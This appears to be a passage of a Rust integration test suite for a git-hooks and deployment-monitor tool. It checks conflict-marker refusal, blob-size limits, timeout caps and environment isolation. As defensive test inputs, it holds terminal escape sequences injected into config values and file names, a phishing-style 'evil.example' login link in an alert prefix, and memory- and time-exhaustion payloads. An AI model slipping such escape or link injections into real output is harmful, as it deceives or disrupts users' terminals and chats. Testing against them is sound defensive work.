                "rm",
                "-q",
                "--cached",
                "--ignore-unmatch",
                "--",
                ".gitattributes",
            ],
        );
        let _ = std::fs::remove_file(work.join(".gitattributes"));
    }
    assert!(!work.join("pwned").exists());
}

#[test]
fn a_blob_of_zeros_is_not_read_whole_by_the_marker_check() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let work = sb.clone_repo(&remote, "work");
    // 200 MB of zeros, 200 KB as an object: a push of it costs the pusher nothing.
    let out = sb
        .command("sh", &work)
        .args([
            "-c",
            "head -c 200000000 /dev/zero | git hash-object -w --stdin",
        ])
        .output()
        .expect("write the blob");
    assert!(
        out.status.success(),
        "{}",
        describe("hash-object", &work, &out)
    );
    let blob = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    sb.git(
        &work,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("100644,{blob},zeros.bin"),
        ],
    );
    sb.git(&work, &["commit", "-q", "-m", "zeros"]);
    // The hook as git runs it, on the protected branch (so the marker check runs), with less
    // memory than the blob takes.
    let url = remote.to_str().expect("utf-8");
    let base = sb.git(&work, &["rev-parse", "origin/main"]);
    let pre_push = |head: &str| {
        let input = format!("refs/heads/main {head} refs/heads/main {base}\n");
        run_limited_with_input(&sb, "pre-push", &work, &["origin", url], 128, &input)
    };
    let head = sb.git(&work, &["rev-parse", "HEAD"]);
    let out = pre_push(&head);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        describe("pre-push", &work, &out)
    );
    // The check did run beside it: a block added in the next commit is refused.
    let marked = sb.commit(
        &work,
        "c.txt",
        "<<<<<<< a\nx\n=======\ny\n>>>>>>> b\n",
        "block",
    );
    let out = pre_push(&marked);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        describe("pre-push", &work, &out)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("c.txt:1 adds a conflict block"),
        "{}",
        describe("pre-push", &work, &out)
    );
}

/// A text of at least `len` bytes with a conflict block at its start.
fn long_conflict(len: usize) -> String {
    let mut text = String::from("<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> topic\n");
    while text.len() < len {
        text.push_str("a line of an oversized generated file\n");
    }
    text
}

#[test]
fn a_blob_past_core_big_file_threshold_is_binary_to_both_hooks() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let out = sb.run(
        "install-hooks",
        sb.path(),
        &["--server", "--repo", remote.to_str().expect("utf-8")],
    );
    assert!(
        out.status.success(),
        "{}",
        describe("install", &remote, &out)
    );
    let work = sb.clone_repo(&remote, "work");
    sb.install(&work);
    sb.commit(&work, "generated.txt", &long_conflict(2 << 20), "generated");
    let push = || sb.git_output(&work, &["push", "-q", "origin", "main"]);
    let out = push();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && stderr.contains("generated.txt:1 adds a conflict block"),
        "{stderr}"
    );
    assert!(!stderr.contains("remote:"), "pre-push refused it: {stderr}");
    // Past this clone's threshold, pre-push treats it as binary, as git's diff does; the remote
    // has its own.
    sb.git(&work, &["config", "core.bigFileThreshold", "1m"]);
    let out = push();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success()
            && stderr.contains("remote: mainstay: refusing to push `refs/heads/main`"),
        "{stderr}"
    );
    sb.git(&remote, &["config", "core.bigFileThreshold", "1m"]);
    let out = push();
    assert!(out.status.success(), "{}", describe("push", &work, &out));
    // The environment's limit goes first: a smaller one still reads nothing past it.
    sb.commit(&work, "small.txt", &long_conflict(4096), "small");
    let out = sb
        .command("git", &work)
        .env("MAINSTAY_BLOB_LIMIT", "1k")
        .args(["push", "-q", "origin", "main"])
        .output()
        .expect("push");
    assert!(out.status.success(), "{}", describe("push", &work, &out));
}

/// A terminal escape that retitles the window, rings the bell and clears the screen.
const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J";

fn assert_printable(what: &str, out: &Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(
            !bytes.iter().any(|b| *b == 0x1b || *b == 0x07),
            "{what} wrote a control character to {stream}: {:?}",
            String::from_utf8_lossy(bytes)
        );
    }
}

#[test]
fn committed_text_reaches_no_terminal_with_its_escapes() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let work = sb.clone_repo(&remote, "work");
    sb.install(&work);
    // TOML's escapes: the values hold a real ESC and BEL once parsed.
    write(
        &work.join(".mainstay.toml"),
        "[deploy.mysql]\ntls = \"\\u001b]0;pwned\\u0007\\u001b[2Jx\"\n\n\
         [ledgers]\n\"\\u001b]0;pwned\\u0007\" = [\"x.md\"]\n",
    );
    sb.git(&work, &["add", ".mainstay.toml"]);
    sb.git(&work, &["commit", "-q", "-m", "config, hostile"]);
    let out = sb.git_output(&work, &["push", "-q", "origin", "main"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("deploy.mysql.tls"),
        "{}",
        describe("push", &work, &out)
    );
    assert_printable("pre-push", &out);
    let out = sb.run("mainstay", &work, &["status"]);
    assert_eq!(
        out.status.code(),
        Some(4),
        "{}",
        describe("status", &work, &out)
    );
    assert_printable("mainstay status", &out);
    let out = sb.run("install-hooks", &work, &[]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        describe("install", &work, &out)
    );
    assert_printable("install-hooks", &out);
    let out = sb.run("install-hooks", &work, &["--check"]);
    assert_printable("install-hooks --check", &out);
    for (name, text) in [("b.md", "a\n"), ("o.md", "a\nb\n"), ("t.md", "a\n")] {
        write(&work.join(name), text);
    }
    let out = sb.run(
        "merge-driver",
        &work,
        &["roadmap", "--", "b.md", "o.md", "t.md", "7", ESCAPES],
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("merging line by line"),
        "{}",
        describe("merge-driver", &work, &out)
    );
    assert_printable("merge-driver", &out);
    // A committed file's name, in a refusal.
    sb.git(&work, &["rm", "-q", "--", ".mainstay.toml"]);
    let name = format!("{ESCAPES}notes.md");
    write(
        &work.join(&name),
        "<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> topic\n",
    );
    sb.git(&work, &["add", "--", &name]);
    sb.git(&work, &["commit", "-q", "-m", "a name, hostile"]);
    let out = sb.git_output(&work, &["push", "-q", "origin", "main"]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("notes.md:1 adds a conflict block"),
        "{}",
        describe("push", &work, &out)
    );
    assert_printable("pre-push", &out);
}

#[test]
fn a_committed_alert_prefix_may_mention_but_never_link() {
    let app = App::start("", vec![200]);
    let webhook = Server::start(|_| Reply::json(200, "ok"));
    let config = app
        .config(None, "1s")
        .replace("max_wait = \"20s\"", "max_wait = \"300ms\"")
        + "\n[alerts]\nprefix = \"<!channel> <https://evil.example|log in> <@U024BE7LH> &\"\n";
    let deploy = Deploy::new(&config).with_env("MAINSTAY_WEBHOOK_URL", &webhook.url("/hook"));
    assert_eq!(deploy.run(), "timeout");
    let alerts = webhook.requests();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let body: serde_json::Value = serde_json::from_str(&alerts[0].body).expect("JSON");
    let text = body["text"].as_str().expect("text");
    assert!(
        text.starts_with(
            "<!channel> &lt;https://evil.example|log in&gt; <@U024BE7LH> &amp; Deployment of"
        ),
        "{text}"
    );
}

/// A `[deploy.app]` whose version endpoint is `server`'s `/health`, with `deploy` settings.
fn app_config(server: &Server, deploy: &str) -> String {
    format!(
        "[deploy]\nschedule = \"fixed\"\npoll_initial = \"20ms\"\npoll_later = \"40ms\"\n{deploy}\n\
         [deploy.app]\nversion_url = \"{}\"\n",
        server.url("/health")
    )
}

#[test]
fn max_wait_bounds_a_monitor_whose_server_answers_a_byte_at_a_time() {
    // Every request of it would take the whole request_timeout, the most a config may set.
    let server = Server::start(|_| Reply::Drip {
        length: 100_000,
        every: Duration::from_millis(50),
    });
    let config = app_config(&server, "max_wait = \"1s\"\nrequest_timeout = \"1m\"");
    let deploy = Deploy::new(&config);
    // Ends well within the wait below (a minute per request otherwise).
    assert!(deploy.spawn_monitor(&deploy.sha).finishes());
    assert_eq!(deploy.result(), "timeout");
    assert!(
        deploy.log().contains("no verdict within 1.0s"),
        "{}",
        deploy.log()
    );
    // So does `status --wait` in a clone where no monitor ran.
    for ext in ["log", "json", "result"] {
        let name = format!(".deployment-status-{}.{ext}", &deploy.sha[..7]);
        std::fs::remove_file(deploy.repo.join(name)).expect("remove a status file");
    }
    let mut status = deploy
        .command(&["status", "--wait=1"])
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("run mainstay status");
    let mut ended = None;
    let waited = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        wait_until("status --wait=1 to end", || {
            ended = status.try_wait().expect("poll status");
            ended.is_some()
        });
    }));
    if waited.is_err() {
        let _ = status.kill();
        let _ = status.wait();
    }
    assert_eq!(ended.and_then(|s| s.code()), Some(3), "nothing known of it");
    // A longer request_timeout is refused: the monitor of every pusher would wait on it.
    let deploy = Deploy::new(&app_config(&server, "request_timeout = \"2d\""));
    let out = deploy.monitor();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("deploy.request_timeout") && stderr.contains("at most 1m"),
        "{stderr}"
    );
    // So are a wait or a readiness budget of days: every pusher's monitor would poll that long.
    let long_wait = app_config(&server, "max_wait = \"30d\"");
    // `[deploy.app]` is the file's last section.
    let long_ready = app_config(&server, "") + "ready_budget = \"2d\"\n";
    for (config, key, limit) in [
        (long_wait, "deploy.max_wait", "at most 24h"),
        (long_ready, "deploy.app.ready_budget", "at most 1h"),
    ] {
        let out = Deploy::new(&config).monitor();
        assert_eq!(out.status.code(), Some(4), "{config}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(key) && stderr.contains(limit), "{stderr}");
    }
}

#[test]
fn committed_poll_intervals_are_held_to_the_machines_floor() {
    let server = Server::start(|_| Reply::json(200, r#"{"commit": "0000000"}"#));
    let config = app_config(&server, "max_wait = \"2s\"");
    // The environment's floor, not the tests' own: one second by default.
    let deploy = Deploy::new(&config).with_env("MAINSTAY_POLL_FLOOR", "");
    let out = deploy.monitor();
    assert!(out.status.success(), "{}", deploy.log());
    assert_eq!(deploy.result(), "timeout");
    let log = deploy.log();
    assert!(
        log.contains(
            "polling no more often than every 1.0s (MAINSTAY_POLL_FLOOR): \
             poll_initial 20ms, poll_later 40ms raised"
        ),
        "{log}"
    );
    // At 0, 1 and 2 s, where the committed 20 ms would have asked about a hundred times.
    let asked = server.count("/health");
    assert!((2..=3).contains(&asked), "{asked} requests\n{log}");
}

#[test]
fn a_slow_body_ends_at_request_timeout_and_a_huge_one_at_4_mib() {
    let slow = Server::start(|_| Reply::Drip {
        length: 100_000,
        every: Duration::from_millis(50),
    });
    let config = app_config(&slow, "max_wait = \"2s\"\nrequest_timeout = \"300ms\"");
    let deploy = Deploy::new(&config);
    assert_eq!(deploy.run(), "timeout");
    let log = deploy.log();
    assert!(log.contains("no answer within 300ms"), "{log}");
    assert!(
        slow.requests().len() > 1,
        "each request was cut, and the next one made"
    );
    // Five MiB of JSON: read no further than 4 MiB, as an error.
    let huge = Server::start(|_| {
        let padding = " ".repeat(5 << 20);
        Reply::json(
            200,
            format!("{{\"commit\":\"{}\"{padding}}}", "0".repeat(40)),
        )
    });
    let deploy = Deploy::new(&app_config(&huge, "max_wait = \"2s\""));
    assert_eq!(deploy.run(), "timeout");
    let log = deploy.log();
    assert!(
        !log.contains("app serves 000000000000")
            && log.contains("the response body is larger than request limit: 4194304"),
        "{log}"
    );
}

#[test]
fn the_monitor_inherits_no_push_remote() {
    let sb = Sandbox::new();
    let remote = sb.remote("remote");
    let work = sb.clone_repo(&remote, "work");
    let app = App::start(&"7".repeat(40), vec![200]);
    write(&work.join(".mainstay.toml"), &app.config(None, "1s"));
    let before = sb.git(&work, &["rev-parse", "refs/remotes/origin/main"]);
    sb.git(&work, &["add", ".mainstay.toml"]);
    sb.git(&work, &["commit", "-q", "-m", "follow deployments"]);
    let sha = sb.git(&work, &["rev-parse", "HEAD"]);
    sb.git(&work, &["push", "-q", "origin", "main"]);
    // post-push as pre-push starts it, the remote (a URL with a password, as often as not) in
    // its environment.
    let mut pushing = std::process::Command::new("sleep")
        .arg("60")
        .spawn()
        .expect("a stand-in push");
    let mut post_push = sb
        .command(bin("post-push"), &work)
        .env("MAINSTAY_PUSH_REMOTE", "origin")
        .env("A_MARKER_OF_THIS_TEST", "inherited")
        .args(["--pid", &pushing.id().to_string()])
        .arg(format!("main={sha}@{before}"))
        .spawn()
        .expect("start post-push");
    pushing.kill().expect("end the stand-in push");
    pushing.wait().expect("reap it");
    assert!(post_push.wait().expect("post-push").success());
    let status_log = work.join(format!(".deployment-status-{}.log", &sha[..7]));
    wait_until("the monitor to poll", || {
        read(&status_log).contains("app serves")
    });
    let record: serde_json::Value = serde_json::from_str(&read(
        &work.join(format!(".deployment-status-{}.json", &sha[..7])),
    ))
    .expect("run record");
    let pid = record["pid"].as_u64().expect("pid");
    let environ = std::fs::read(format!("/proc/{pid}/environ")).expect("the monitor runs");
    let vars: Vec<String> = environ
        .split(|b| *b == 0)
        .map(|v| String::from_utf8_lossy(v).into_owned())
        .collect();
    // The deployment goes live, and the monitor ends before the sandbox goes.
    *app.commit.lock().expect("commit") = sha.clone();
    let result = work.join(format!(".deployment-status-{}.result", &sha[..7]));
    wait_until("the monitor's verdict", || {
        read(&result).contains("success")
    });
    assert!(
        vars.iter().any(|v| v == "A_MARKER_OF_THIS_TEST=inherited"),
        "the monitor's own environment: {vars:?}"
    );
    assert!(
        !vars.iter().any(|v| v.starts_with("MAINSTAY_PUSH_REMOTE=")),
        "{vars:?}"
    );
}
